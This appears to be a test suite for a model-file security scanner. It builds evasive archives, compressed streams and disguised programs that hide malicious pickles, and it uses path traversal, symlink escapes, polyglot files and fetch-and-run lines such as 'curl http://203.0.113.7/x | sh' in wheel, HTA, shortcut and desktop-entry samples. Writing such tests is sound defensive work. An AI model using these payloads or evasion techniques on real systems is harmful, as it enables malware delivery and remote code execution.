import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from "node:zlib";
import { describe } from "vitest";
import { concat, u32, zeros } from "../builders/bytes.js";
import { literals, lz4Frame, skippable } from "../builders/lz4.js";
import * as p from "../builders/pickle.js";
import { END, entry, pax, tar } from "../builders/tar.js";
import { extraField, unicodePath, unixMode, zip } from "../builders/zip.js";
import { failing } from "./attack.js";

const MALICE = p.osSystem();
const HARMLESS = p.pickle(p.proto(4), p.int(1), p.stop);
const TEXT_PICKLE = "cos\nsystem\n(S'id'\ntR.";

/** A frame of Zstandard with one block that is not compressed (RFC 8878, 3.1.1). */
function zstd(content: Uint8Array): Uint8Array {
  const block = (content.length << 3) | 1;
  return concat(
    [0x28, 0xb5, 0x2f, 0xfd, 0x20, content.length],
    [block & 255, (block >> 8) & 255, block >> 16],
    content,
  );
}

const torch = (data: Uint8Array | string, more: object = {}) => ({
  entries: [
    { name: "m/data.pkl", data, ...more },
    { name: "m/version", data: "3\n" },
  ],
});

describe("an attack by a zip archive", () => {
  failing(
    [
      {
        hope: "an entry is a symbolic link out of the folder",
        bytes: () => zip({ entries: [{ name: "a", data: "/etc/passwd", externalAttributes: unixMode(0o120777) }] }),
      },
      {
        hope: "a later entry is written through the link of an earlier one",
        bytes: () =>
          zip({
            entries: [
              { name: "a", data: "..", externalAttributes: unixMode(0o120777) },
              { name: "a/x.py", data: "1" },
            ],
          }),
      },
      {
        hope: "the Unicode path names another file",
        bytes: () =>
          zip({ entries: [{ name: "readme.txt", data: MALICE, extra: unicodePath("../../x.pkl", "readme.txt") }] }),
      },
      { hope: "the name is absolute", bytes: () => zip({ entries: [{ name: "/etc/cron.d/x", data: "x" }] }) },
      { hope: "the name has a drive", bytes: () => zip({ entries: [{ name: "C:\\Windows\\x.dll", data: "x" }] }) },
      { hope: "the name goes up by backslashes", bytes: () => zip({ entries: [{ name: "..\\..\\x.py", data: "x" }] }) },
      {
        hope: "the name has a NUL and goes on",
        bytes: () => zip({ entries: [{ name: "ok.txt\0/../../x.pkl", data: "x" }] }),
      },
      {
        hope: "the content is encrypted",
        bytes: () => zip({ entries: [{ name: "data.pkl", data: MALICE, flags: 1 }] }),
      },
      {
        hope: "the content is encrypted by AES",
        bytes: () =>
          zip({
            entries: [
              {
                name: "data.pkl",
                packed: concat(zeros(28), MALICE),
                method: 99,
                flags: 1,
                extra: extraField(0x9901, concat([2, 0], "AE", [3, 8, 0])),
              },
            ],
          }),
      },
      { hope: "the archive is one of several disks", bytes: () => zip({ ...torch(MALICE, { diskStart: 1 }) }) },
      {
        hope: "sizes follow the data",
        bytes: () => zip(torch(MALICE, { descriptor: true, method: 8 })),
        least: "high",
      },
      { hope: "the method is one of nobody", bytes: () => zip(torch("x", { packed: MALICE, method: 77 })) },
      { hope: "stored bytes call themselves deflated", bytes: () => zip(torch(MALICE, { packed: MALICE, method: 8 })) },
      {
        hope: "deflated bytes call themselves stored",
        bytes: () => zip(torch(MALICE, { packed: deflateRawSync(MALICE), method: 0 })),
      },
      {
        hope: "the content goes on behind its declared size",
        bytes: () => zip(torch(HARMLESS, { packed: deflateRawSync(concat(HARMLESS, MALICE)), method: 8 })),
      },
      {
        hope: "the local header has another name",
        bytes: () => zip(torch(MALICE, { local: { name: "m/notes.txt" } })),
      },
      { hope: "the local header has another method", bytes: () => zip(torch(MALICE, { local: { method: 8 } })) },
      {
        hope: "an archive is appended to a PDF",
        name: "paper.pdf",
        bytes: () => zip({ ...torch(MALICE), prefix: Buffer.from("%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF\n") }),
      },
      {
        hope: "an archive is appended to an image",
        name: "logo.png",
        bytes: () => concat([0x89], "PNG\r\n\x1a\n", zeros(64), zip(torch(MALICE))),
      },
      {
        hope: "an archive is appended to an image, and its offsets fit",
        name: "logo.jpg",
        bytes: () => zip({ ...torch(MALICE), prefix: concat([0xff, 0xd8, 0xff, 0xe0], zeros(60)), adjusted: true }),
      },
      {
        hope: "an archive hides in a GIF's comment",
        name: "logo.gif",
        bytes: () => concat("GIF89a", zeros(20), zip(torch(MALICE)), ";"),
      },
      {
        hope: "five archives are in one another",
        bytes: () =>
          Array.from({ length: 5 }).reduce<Uint8Array>(
            (data) => zip({ entries: [{ name: "a.bin", data, method: 8 }] }),
            MALICE,
          ),
        least: "high",
      },
      {
        hope: "gzip, zlib and zip are in one another",
        bytes: () => zip({ entries: [{ name: "a", data: gzipSync(deflateSync(gzipSync(MALICE))) }] }),
        least: "high",
      },
      {
        hope: "the name of the entry says it is a picture",
        bytes: () => zip({ entries: [{ name: "a.png", data: TEXT_PICKLE }] }),
        least: "high",
      },
      { hope: "two directories disagree", bytes: () => concat(zip(torch(MALICE)), zip(torch(HARMLESS))) },
      { hope: "the directory is missing", bytes: () => zip({ ...torch(MALICE), end: false }) },
      { hope: "the end record counts no entries", bytes: () => zip({ ...torch(MALICE), end: { entries: 0 } }) },
      {
        hope: "the zip64 record points elsewhere",
        bytes: () => zip({ ...torch(MALICE), zip64: { directoryOffset: 0, entries: 0 } }),
      },
      { hope: "a magic of split archives stands before it", bytes: () => concat("PK\x07\x08", zip(torch(MALICE))) },
      {
        hope: "the end of a line in the name deceives the terminal",
        bytes: () => zip({ entries: [{ name: "a\u202etxt.lkp", data: "x" }] }),
      },
      {
        hope: "the torch archive has a pickle where a byte order mark should be",
        bytes: () =>
          zip({
            entries: [
              { name: "m/data.pkl", data: HARMLESS },
              { name: "m/version", data: "3" },
              { name: "m/byteorder", data: TEXT_PICKLE },
            ],
          }),
        least: "high",
      },
      {
        hope: "the second root is the loaded one",
        bytes: () =>
          zip({
            entries: [
              { name: "x/data.pkl", data: MALICE },
              { name: "m/data.pkl", data: HARMLESS },
              { name: "m/version", data: "3" },
            ],
          }),
        least: "high",
      },
      {
        hope: "sample inputs of an exported program are a pickle",
        name: "m.pt2",
        bytes: () =>
          zip({
            entries: [
              { name: "m/archive_format", data: "pt2" },
              { name: "m/data/sample_inputs/model.pt", data: zip(torch(MALICE)) },
            ],
          }),
        least: "high",
      },
      {
        hope: "an exported program brings a library",
        name: "m.pt2",
        bytes: () =>
          zip({
            entries: [
              { name: "m/archive_format", data: "pt2" },
              {
                name: "m/data/aotinductor/model/x.so",
                data: concat("\x7fELF", [2, 1, 1, 0], zeros(8), [3, 0, 62, 0], zeros(44)),
              },
            ],
          }),
        least: "high",
      },
      {
        hope: "a wheel runs code as it is installed",
        name: "x-1-py3-none-any.whl",
        bytes: () =>
          zip({ entries: [{ name: "x.pth", data: "import os; os.system('curl http://203.0.113.7/x | sh')\n" }] }),
        least: "high",
      },
      {
        hope: "a jar brings classes",
        name: "model.jar",
        bytes: () =>
          zip({ entries: [{ name: "Evil.class", data: concat([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52], zeros(100)) }] }),
        least: "low",
      },
    ],
    "model.pt",
  );
});

describe("an attack by a tar archive", () => {
  failing(
    [
      {
        hope: "PAX gives another path",
        bytes: () => tar(pax({ path: "../../../root/.bashrc" }), { name: "ok.txt", data: "x" }),
      },
      {
        hope: "PAX gives a path to all entries",
        bytes: () => tar(pax({ path: "../../x" }, "g"), { name: "ok.txt", data: "x" }),
      },
      {
        hope: "PAX gives another size",
        bytes: () => tar(pax({ size: `${MALICE.length}` }), { name: "ok.pkl", data: MALICE, size: 0 }),
      },
      {
        hope: "PAX gives another link",
        bytes: () => tar(pax({ linkpath: "/etc/passwd" }), { name: "l", type: "2", link: "x" }),
      },
      {
        hope: "GNU gives a long name",
        bytes: () =>
          tar(
            { name: "././@LongLink", type: "L", data: `${"../".repeat(50)}root/.bashrc\0`, flavour: "gnu" },
            { name: "ok", data: "x", flavour: "gnu" },
          ),
      },
      { hope: "a hard link leads out", bytes: () => tar({ name: "l", type: "1", link: "/etc/passwd" }) },
      {
        hope: "a link of links leads out",
        bytes: () =>
          tar(
            { name: "a", type: "2", link: ".." },
            { name: "a/b", type: "2", link: "../.." },
            { name: "a/b/x", data: "x" },
          ),
      },
      { hope: "a device", bytes: () => tar({ name: "d", type: "3" }) },
      { hope: "a named pipe", bytes: () => tar({ name: "d", type: "6" }) },
      {
        hope: "a second archive follows the first",
        bytes: () => concat(tar({ name: "a", data: "x" }), tar({ name: "b.pkl", data: MALICE })),
      },
      {
        hope: "the end mark stands too early",
        bytes: () => concat(entry({ name: "a", data: "x" }), END, entry({ name: "b.pkl", data: MALICE }), END),
      },
      {
        hope: "the type is one of nobody",
        bytes: () => tar({ name: "b.pkl", type: "Z", data: MALICE }),
        least: "high",
      },
      { hope: "a contiguous file", bytes: () => tar({ name: "b.pkl", type: "7", data: MALICE }), least: "high" },
      { hope: "an old sparse file", bytes: () => tar({ name: "b.pkl", type: "S", data: MALICE, flavour: "gnu" }) },
      {
        hope: "a volume label has content",
        bytes: () => tar({ name: "b.pkl", type: "V", data: MALICE, flavour: "gnu" }),
      },
      { hope: "a folder has content", bytes: () => tar({ name: "b/", type: "5", data: MALICE }) },
      {
        hope: "the checksum is wrong from the second header on",
        bytes: () => tar({ name: "a", data: "x" }, { name: "b.pkl", data: MALICE, checksumError: 1 }),
      },
      {
        hope: "the size is a binary number",
        bytes: () => {
          const size = Buffer.alloc(12);
          size[0] = 0x80;
          size.writeUInt32BE(MALICE.length, 8);
          return tar({ name: "b.pkl", data: MALICE, size });
        },
        least: "high",
      },
      { hope: "the size is negative", bytes: () => tar({ name: "b.pkl", data: MALICE, size: Buffer.alloc(12, 0xff) }) },
      {
        hope: "the old layout of torch",
        name: "model.pt",
        bytes: () =>
          tar(
            { name: "pickle", data: MALICE },
            { name: "storages", data: HARMLESS },
            { name: "tensors", data: HARMLESS },
          ),
        least: "high",
      },
      {
        hope: "a NeMo archive has a target in its configuration",
        name: "m.nemo",
        bytes: () =>
          gzipSync(tar({ name: "./model_config.yaml", data: "model:\n  _target_: os.system\n  command: id\n" })),
        least: "high",
      },
      {
        hope: "a NeMo archive is not compressed",
        name: "m.nemo",
        bytes: () => tar({ name: "model_config.yaml", data: "target: os.system\nparams:\n  command: id\n" }),
        least: "high",
      },
      {
        hope: "the name is in capitals twice",
        bytes: () => tar({ name: "A.txt", data: HARMLESS }, { name: "a.TXT", data: MALICE }),
        least: "high",
      },
      {
        hope: "a setuid program",
        bytes: () => tar({ name: "run", mode: 0o4755, data: "#!/bin/sh\nid\n" }),
        least: "low",
      },
    ],
    "model.tar",
  );
});

const bz2 = Buffer.from(
  "425a6839314159265359ffae45a600000953c01010002110000ea0cc4040002000229a30869a7ea8530004d08161de65abc85068f8bb9229c28487fd722d30",
  "hex",
);

describe("an attack by a compressed stream", () => {
  failing(
    [
      { hope: "gzip twice", bytes: () => gzipSync(gzipSync(MALICE)) },
      {
        hope: "gzip with a name and a comment",
        bytes: () => {
          const gz = gzipSync(MALICE);
          gz[3] = 0x18;
          return concat(gz.subarray(0, 10), "a.txt\0", "comment\0", gz.subarray(10));
        },
      },
      { hope: "gzip behind an empty member", bytes: () => concat(gzipSync(""), gzipSync(MALICE)) },
      { hope: "gzip behind zeros", bytes: () => concat(gzipSync(HARMLESS), zeros(512), gzipSync(MALICE)) },
      { hope: "a pickle behind a gzip stream", bytes: () => concat(gzipSync(HARMLESS), MALICE) },
      {
        hope: "a gzip stream whose checksum is wrong",
        bytes: () => {
          const gz = gzipSync(MALICE);
          gz[gz.length - 6] = (gz[gz.length - 6] ?? 0) ^ 1;
          return gz;
        },
      },
      {
        hope: "a gzip stream that is cut off",
        bytes: () => gzipSync(concat(MALICE, Buffer.alloc(4000, "ab"))).subarray(0, -12),
      },
      { hope: "zlib with the smallest window", bytes: () => deflateSync(MALICE, { windowBits: 9 }) },
      { hope: "zstd", bytes: () => zstd(MALICE) },
      { hope: "zstd behind a skippable frame", bytes: () => concat(skippable(Buffer.from("hello")), zstd(MALICE)) },
      { hope: "the second frame of zstd", bytes: () => concat(zstd(HARMLESS), zstd(MALICE)) },
      {
        hope: "lz4 behind a skippable frame",
        bytes: () => concat(skippable(Buffer.from("x")), lz4Frame([literals(MALICE)])),
      },
      {
        hope: "the second frame of lz4",
        bytes: () => concat(lz4Frame([literals(HARMLESS)]), lz4Frame([literals(MALICE)])),
      },
      {
        hope: "the old form of lz4",
        bytes: () => {
          const block = literals(MALICE);
          return concat(u32(0x184c2102), u32(block.length), block);
        },
      },
      {
        hope: "an lz4 block without a frame, as python-lz4 writes it",
        name: "model.lz4",
        bytes: () => concat(u32(MALICE.length), literals(MALICE)),
      },
      { hope: "brotli with its ending", name: "model.pkl.br", bytes: () => brotliCompressSync(MALICE) },
      { hope: "bzip2 twice over", bytes: () => concat(bz2, bz2) },
      {
        hope: "zlib behind joblib's old prefix",
        name: "model.joblib",
        bytes: () => concat("ZF0x10                 ", deflateSync(MALICE)),
      },
    ],
    "model.bin",
  );
});

describe("an attack by a package or an image of a disc", () => {
  const packed = deflateRawSync(MALICE);
  failing([
    { hope: "a cabinet", name: "model.cab", bytes: () => cabinet("data.pkl", MALICE), least: "high" },
    { hope: "an ar archive", name: "model.a", bytes: () => ar({ "data.pkl/": MALICE }), least: "high" },
    {
      hope: "a Debian package",
      name: "model.deb",
      bytes: () =>
        ar({
          "debian-binary": Buffer.from("2.0\n"),
          "data.tar.gz": gzipSync(tar({ name: "./opt/m.pkl", data: MALICE })),
        }),
      least: "high",
    },
    { hope: "a cpio archive", name: "model.cpio", bytes: () => cpio("data.pkl", MALICE), least: "high" },
    {
      hope: "a cpio archive under a model's name",
      name: "model.bin",
      bytes: () => cpio("data.pkl", MALICE),
      least: "high",
    },
    {
      hope: "a path in a cpio archive",
      name: "model.cpio",
      bytes: () => cpio("../../../root/.bashrc", Buffer.from("x")),
    },
    {
      hope: "a disc image that is damaged",
      name: "model.iso",
      bytes: () => concat(zeros(32768), [1], "CD001", [1, 0], zeros(2040), packed),
    },
    {
      hope: "an Apple disc image that is damaged",
      name: "model.dmg",
      bytes: () => concat(packed, zeros(600), "koly", [0, 0, 0, 4], zeros(504)),
    },
    {
      hope: "an RPM package that is damaged",
      name: "model.rpm",
      bytes: () => concat([0xed, 0xab, 0xee, 0xdb, 3, 0], zeros(90), packed),
    },
    {
      hope: "a Windows image that is damaged",
      name: "model.wim",
      bytes: () => concat("MSWIM\0\0\0", zeros(200), packed),
    },
    {
      hope: "SquashFS that is damaged",
      name: "model.squashfs",
      bytes: () => concat("hsqs", zeros(24), [4, 0], zeros(66), packed),
    },
    { hope: "xar that is damaged", name: "model.pkg", bytes: () => concat("xar!", [0, 28, 0, 1], zeros(20), packed) },
    { hope: "LHA that is damaged", name: "model.lzh", bytes: () => concat([0x20, 0], "-lh5-", zeros(30), packed) },
    { hope: "compress that is damaged", name: "model.pkl.Z", bytes: () => concat([0x1f, 0x9d, 0x90], packed) },
    { hope: "a stream of lzop", name: "model.pkl.lzo", bytes: () => concat([0x89], "LZO\0\r\n\x1a\n", packed) },
    { hope: "a stream of lzip", name: "model.pkl.lz", bytes: () => concat("LZIP", [1, 0x0c], packed) },
    { hope: "a stream of snappy", name: "model.pkl.snappy", bytes: () => concat([0xff, 6, 0, 0], "sNaPpY", packed) },
    {
      hope: "a mail with a pickle attached",
      name: "model.eml",
      bytes: () =>
        `MIME-Version: 1.0\nContent-Transfer-Encoding: base64\n\n${Buffer.from(MALICE).toString("base64")}\n`,
    },
  ]);
});

/** An archive of Unix's ar: a header in text before every member. */
function ar(members: Readonly<Record<string, Uint8Array>>): Uint8Array {
  const parts = Object.entries(members).map(([name, data]) =>
    concat(
      name.padEnd(16),
      "0".padEnd(12),
      "0".padEnd(6),
      "0".padEnd(6),
      "100644".padEnd(8),
      `${data.length}`.padEnd(10),
      "`\n",
      data,
      data.length % 2 === 1 ? "\n" : "",
    ),
  );
  return concat("!<arch>\n", ...parts);
}

/** A cpio archive in the form "newc". */
function cpio(name: string, data: Uint8Array): Uint8Array {
  const member = (path: string, content: Uint8Array) => {
    const numbers = [
      1,
      path === "TRAILER!!!" ? 0 : 0o100644,
      0,
      0,
      1,
      0,
      content.length,
      0,
      0,
      0,
      0,
      path.length + 1,
      0,
    ];
    const head = concat("070701", numbers.map((value) => value.toString(16).padStart(8, "0")).join(""), path, [0]);
    return concat(head, zeros((4 - (head.length % 4)) % 4), content, zeros((4 - (content.length % 4)) % 4));
  };
  return concat(member(name, data), member("TRAILER!!!", new Uint8Array()));
}

/** A cabinet with one file that is not compressed ([MS-CAB]). */
function cabinet(name: string, data: Uint8Array): Uint8Array {
  const u16 = (value: number) => [value & 255, value >> 8];
  const file = concat(u32(data.length), u32(0), u16(0), u16(0), u16(0), u16(0x20), name, [0]);
  const dataAt = 36 + 8 + file.length;
  const block = concat(u32(0), u16(data.length), u16(data.length), data);
  return concat(
    concat("MSCF", u32(0), u32(dataAt + block.length), u32(0), u32(44), u32(0), [3, 1]),
    concat(u16(1), u16(1), u16(0), u16(0), u16(0)),
    concat(u32(dataAt), u16(1), u16(0)),
    file,
    block,
  );
}

describe("an attack by a program under a model's name", () => {
  const elf = concat("\x7fELF", [2, 1, 1, 0], zeros(8), [2, 0, 62, 0], zeros(200));
  const programs: Readonly<Record<string, readonly [string, () => Uint8Array | string]>> = {
    "a Linux program": ["pytorch_model.bin", () => elf],
    "a Windows program": [
      "model.onnx",
      () => {
        const pe = Buffer.alloc(512);
        pe.write("MZ");
        pe.writeUInt32LE(0x80, 0x3c);
        pe.write("PE\0\0", 0x80, "latin1");
        return pe;
      },
    ],
    "a Mac program": [
      "model.bin",
      () => concat([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1, 3, 0, 0, 0, 2, 0, 0, 0], zeros(100)),
    ],
    "a Mac program for two machines": [
      "model.bin",
      () => concat([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2, 1, 0, 0, 7, 0, 0, 0, 3], zeros(100)),
    ],
    "a Java class": ["model.bin", () => concat([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52, 0, 10], zeros(100))],
    "a Java class in an array's place": [
      "arr_0.npy",
      () => concat([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52, 0, 10], zeros(100)),
    ],
    "a Windows program with a long stub": [
      "model.bin",
      () => {
        const pe = Buffer.alloc(9000);
        pe.write("MZ");
        pe.writeUInt16LE(0x90, 2);
        pe.writeUInt16LE(4, 8);
        pe.writeUInt16LE(0x40, 0x18);
        pe.writeUInt32LE(0x2000, 0x3c);
        pe.write("PE\0\0", 0x2000, "latin1");
        return pe;
      },
    ],
    WebAssembly: ["model.bin", () => concat("\0asm", [1, 0, 0, 0], zeros(40))],
    "an Android program": ["model.bin", () => concat("dex\n035\0", zeros(100))],
    "LLVM bitcode": ["model.bin", () => concat("BC", [0xc0, 0xde], zeros(100))],
    "a Lua program": ["model.bin", () => concat([0x1b], "Lua", [0x53, 0], zeros(40))],
    "a shell script": ["model.bin", () => "#!/bin/sh\nid\n"],
    "a shell script behind a mark": ["model.bin", () => "\ufeff#!/bin/sh\ncurl http://203.0.113.7/x | sh\n"],
    "a Python script": ["model.safetensors", () => "#!/usr/bin/env python3\nimport os\nos.system('id')\n"],
    "Python without a mark": ["model.pt", () => "import os\nos.system('curl http://203.0.113.7/x | sh')\n"],
    "Python source in a weight file without a name that tells": [
      "weights",
      () => "import os\nos.system('curl http://203.0.113.7/x | sh')\n",
    ],
    "a Windows shortcut": [
      "model.lnk",
      () =>
        concat(
          [0x4c, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46],
          zeros(60),
          Buffer.from("cmd.exe /c curl http://203.0.113.7/x", "utf16le"),
        ),
    ],
    "an HTML application": [
      "model.hta",
      () =>
        '<script language=VBScript>CreateObject("WScript.Shell").Run "cmd /c curl http://203.0.113.7/x | sh"</script>',
    ],
    "a desktop entry": [
      "model.desktop",
      () => "[Desktop Entry]\nType=Application\nExec=sh -c 'curl http://203.0.113.7/x | sh'\n",
    ],
  };
  failing(Object.entries(programs).map(([hope, [name, bytes]]) => ({ hope, name, bytes })));
});
